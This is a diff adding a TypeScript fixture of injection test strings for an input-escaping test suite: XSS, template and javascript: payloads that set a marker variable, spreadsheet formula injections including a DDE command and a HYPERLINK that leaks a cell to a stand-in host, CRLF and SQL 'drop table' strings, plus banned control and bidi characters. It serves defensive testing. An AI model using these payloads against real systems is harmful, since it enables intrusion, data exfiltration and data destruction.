@@ -1,0 +1,33 @@
+/** Texts that would do something where they are not taken for text: in a page, an address, a template, a spreadsheet. */
+export const HOSTIS = [
+  `<img src=x onerror="window.invadido=1">`,
+  `"><script>window.invadido=1</script>`,
+  `' onmouseover='window.invadido=1' x='`,
+  `</title></textarea><svg onload=window.invadido=1>`,
+  'javascript:window.invadido=1//',
+  `{{constructor.constructor('window.invadido=1')()}}`,
+  `\${window.invadido=1}`,
+  '&lt;b&gt;&#106;&#97;&amp;',
+  '[clique](javascript:window.invadido=1)',
+  `=HYPERLINK("http://mau.example/?x="&A1;"clique")`,
+  `+cmd|' /C calc'!A0`,
+  '@SUM(1+1)*cmd',
+  '-2+3+cmd',
+  '＝1+1',
+  `'=1+1`,
+  '\u200fשלום \u200eAçaí',
+  `%0d%0aSet-Cookie: a=b`,
+  `'; drop table pedido; --`,
+] as const
+
+/** What no name may hold: it would break a line, a cell or a header, or turn the text after it around. */
+export const RECUSADOS = [
+  '=1+1\tb',
+  'a\r=1+1',
+  'a\nb',
+  'a\0b',
+  'a\u001bb',
+  'abc\u202efdp.exe',
+  'a\u2066b',
+  'a\ud800b',
+] as const
